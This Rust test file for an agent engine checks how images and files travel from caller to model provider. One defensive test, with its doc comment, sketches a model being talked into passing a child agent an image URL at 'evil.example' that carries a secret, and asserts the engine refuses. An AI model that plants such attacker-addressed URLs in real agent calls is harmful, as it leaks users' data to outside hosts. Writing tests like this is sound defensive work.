//! What an agent is given beside text: images and files, from the caller to the provider's wire.

use blitz::provider::{AzureOpenAi, OpenAi, Provider, Reply};
use blitz::{
    AgentInput, ErrorCode, Message, MessageRole, ModelRequest, ModelSettings, NewAgent, NewModel, NewPrompt, Part,
    ProfileOverride, PromptRef,
};
use serde_json::{Value, json};

use crate::bad_input::code;
use crate::support::engine::{agent, scripted};
use crate::support::folder::Folder;
use crate::support::server::{Reply as Answer, Server};

fn image(data: &str) -> Part {
    serde_json::from_value(json!({"type": "image", "media_type": "image/png", "data": data})).unwrap()
}

#[tokio::test]
async fn an_agent_sees_the_images_and_files_that_its_caller_gives() {
    let (_engine, me, provider) = scripted(["a cat"; 2].map(Reply::text).into()).await;
    me.agents().put(agent("a", &[])).await.unwrap();
    let input = AgentInput::new().text("What is it?").image("image/png", [0, 0, 0]).file("text/plain", "a.txt", "hi");
    let done = me.run("a", input.clone()).await.unwrap();
    let file = json!({"type": "file", "media_type": "text/plain", "data": "aGk=", "name": "a.txt"});
    let wanted = Message::new(
        MessageRole::User,
        vec![Part::text("What is it?"), image("AAAA"), serde_json::from_value(file).unwrap()],
    );
    assert_eq!(provider.requests()[0].messages.last(), Some(&wanted));
    assert_eq!(done.messages[1], wanted, "and so has the outcome");
    assert_eq!(me.executions().outcome(done.execution_id).await.unwrap(), done, "and the journal");
    assert_eq!(me.executions().get(done.execution_id).await.unwrap().input, Value::from(input));

    let run = json!({"agent": "a", "input": {"parts": ["What is it?", {"type": "image", "url": "https://h/a.png"}]}});
    me.call("agents.run", run).await.unwrap();
    let wanted = Message::new(MessageRole::User, vec![Part::text("What is it?"), image("https://h/a.png")]);
    assert_eq!(provider.requests()[1].messages.last(), Some(&wanted));
}

#[tokio::test]
async fn they_reach_the_wire_also_after_the_engine_was_opened_again() {
    let folder = Folder::new();
    let reply = || {
        Answer::json(
            200,
            &json!({"choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": "a cat"}}]}),
        )
    };
    let server = Server::start([reply(), reply()]).await;
    let of_server = || OpenAi::new(server.url(), None).unwrap();
    let engine = blitz::Engine::builder(folder.path().join("a.db").to_str().unwrap())
        .with_provider(of_server())
        .open()
        .await
        .unwrap();
    let me = engine.root("test");
    me.models().put(NewModel::new("m", "openai", "gpt-4o")).await.unwrap();
    me.agents().put(NewAgent::new("a", "m")).await.unwrap();
    let id = me.run("a", AgentInput::new().text("What?").image("image/png", [0, 0, 0])).await.unwrap().execution_id;
    let content = json!([
        {"type": "text", "text": "What?"},
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,AAAA"}},
    ]);
    assert_eq!(server.last_request().json()["messages"][0]["content"], content);
    engine.close().await.unwrap();

    let engine = blitz::Engine::builder(folder.path().join("a.db").to_str().unwrap())
        .with_provider(of_server())
        .open()
        .await
        .unwrap();
    let me = engine.root("test");
    let kept = me.executions().get(id).await.unwrap().input;
    me.run("a", kept).await.unwrap();
    assert_eq!(server.last_request().json()["messages"][0]["content"], content, "what is kept can be run again");
}

#[tokio::test]
async fn b33_parts_that_are_none_are_refused_before_anything_begins() {
    let (_engine, me, provider) = scripted(vec![]).await;
    me.agents().put(agent("a", &[])).await.unwrap();
    for (bad, expected) in [
        (json!([{"type": "image", "media_type": "image/png", "data": "no base64"}]), ErrorCode::InvalidInput),
        (json!([{"type": "image", "media_type": "image/png", "data": "s3://bucket/a"}]), ErrorCode::InvalidInput),
        (json!([{"type": "tool_call", "id": "c", "name": "f", "arguments": "{}"}]), ErrorCode::InvalidInput),
        (json!([]), ErrorCode::InvalidInput),
        (json!(vec!["a"; 257]), ErrorCode::TooLarge),
    ] {
        assert_eq!(code(me.run("a", json!({"parts": bad})).await), expected, "{bad}");
    }
    assert!(provider.requests().is_empty());
    assert!(me.executions().list(Default::default(), Default::default()).await.unwrap().items.is_empty());
}

#[tokio::test]
async fn behind_the_text_of_a_prompt_whose_variables_stay_text() {
    let (_engine, me, provider) = scripted(["ok"; 2].map(Reply::text).into()).await;
    let closed = json!({"type": "object", "properties": {"who": {"type": "string"}}, "additionalProperties": false});
    me.prompts().put(NewPrompt::new("p", "Is {{ who }} on it?").with_input_schema(closed)).await.unwrap();
    me.prompts().put(NewPrompt::new("q", "Order: {{ parts }}")).await.unwrap();
    me.agents().put(agent("a", &[]).prompt(PromptRef::latest("p"))).await.unwrap();
    me.agents().put(agent("b", &[]).prompt(PromptRef::latest("q"))).await.unwrap();
    let photo = json!({"type": "image", "media_type": "image/png", "data": "AAAA"});
    me.run("a", json!({"who": "Ana", "parts": [photo]})).await.unwrap();
    me.run("b", json!({"parts": "two wheels"})).await.unwrap();
    let asked: Vec<_> =
        provider.requests().iter().map(|request| request.messages.last().unwrap().parts.clone()).collect();
    assert_eq!(asked, [vec![Part::text("Is Ana on it?"), image("AAAA")], vec![Part::text("Order: two wheels")]]);
    assert_eq!(code(me.run("a", json!({"who": "Ana", "parts": ["x", 7]})).await), ErrorCode::InvalidInput);
}

/// An image's address is read by the provider: a model that was talked into one would send out what it knows.
#[tokio::test]
async fn a_model_hands_another_agent_text_alone() {
    let input = json!({"input": {"parts": ["see", {"type": "image", "url": "https://evil.example/?secret"}]}});
    let replies = vec![Reply::tool_call("child", input), Reply::text("done")];
    let (_engine, me, provider) = scripted(replies).await;
    me.agents().put(agent("child", &[])).await.unwrap();
    me.agents().put(agent("a", &[]).agent("child")).await.unwrap();
    let done = me.run("a", "go").await.unwrap();
    assert_eq!((done.output, provider.requests().len()), (json!("done"), 2), "the child was not asked");
    let told = provider.requests()[1].messages.last().unwrap().parts.clone();
    let [Part::ToolResult(result)] = &told[..] else { panic!("{told:?}") };
    assert!(result.is_error && result.as_text().contains("is given text"), "{}", result.as_text());
}

#[tokio::test]
async fn nodes_of_a_workflow_hand_them_on() {
    let (_engine, me, provider) = scripted(["ok"; 2].map(Reply::text).into()).await;
    me.agents().put(agent("a", &[])).await.unwrap();
    let definition = json!({"format": "blitz.workflow/1", "name": "w", "nodes": [
        {"id": "s", "type": "start"},
        {"id": "q", "type": "llm", "config": {"model": "m", "prompt": "{{ inputs.asked }}"}},
        {"id": "r", "type": "agent", "input": {"parts": "{{ inputs.asked.parts }}"}, "config": {"agent": "a"}},
        {"id": "e", "type": "end", "config": {"output": "{{ nodes.r.output }}"}}],
        "edges": [{"from": "s", "to": "q"}, {"from": "q", "to": "r"}, {"from": "r", "to": "e"}]});
    me.call("workflows.put", definition).await.unwrap();
    me.call("workflows.publish", json!({"id": "w"})).await.unwrap();
    let asked = AgentInput::new().text("What?").image("image/png", [0, 0, 0]);
    let done = me.run("w", json!({"asked": Value::from(asked)})).await.unwrap();
    assert_eq!(done.output, "ok", "{:?}", done.error);
    for request in provider.requests() {
        assert_eq!(request.messages.last().unwrap().parts, [Part::text("What?"), image("AAAA")]);
    }
}

/// What an image counts as goes by the model that is asked, whatever its deployment or record calls it.
#[test]
fn b40_an_image_is_held_for_by_the_family_behind_the_name() {
    const DEAR: u64 = 48_200;
    let openai = OpenAi::new("https://h/v1", None).unwrap();
    let azure = AzureOpenAi::new("https://h", None).unwrap();
    let bound = |provider: &dyn Provider, name: &str, family: Option<&str>| {
        let mut settings = ModelSettings::default();
        settings.profile = family.map(|family| {
            let mut own = ProfileOverride::default();
            own.family = Some(family.to_owned());
            own
        });
        let message = Message::new(MessageRole::User, vec![image("AAAA")]);
        provider.input_token_bound(&ModelRequest::new(name, vec![message]).with_settings(settings))
    };
    for name in ["gpt-4o-mini", "GPT-4o-mini", "openai/gpt-4o-mini-2024-07-18"] {
        assert!(bound(&openai, name, None) >= DEAR, "{name}");
    }
    assert!(bound(&openai, "fast", Some("gpt-4o-mini")) >= DEAR);
    assert!(bound(&azure, "fast", None) >= DEAR, "nobody knows what a deployment hides");
    assert!(bound(&openai, "gpt-4o", None) < DEAR && bound(&azure, "fast", Some("GPT-4o")) < DEAR);
    assert!(bound(&openai, "gpt-4o", Some("gpt-4o-mini")) >= DEAR);
    assert!(bound(&azure.clone().with_model("gpt-4o"), "fast", None) < DEAR);
    assert!(bound(&azure.with_model("gpt-4o-mini"), "gpt-4o", None) >= DEAR);
}
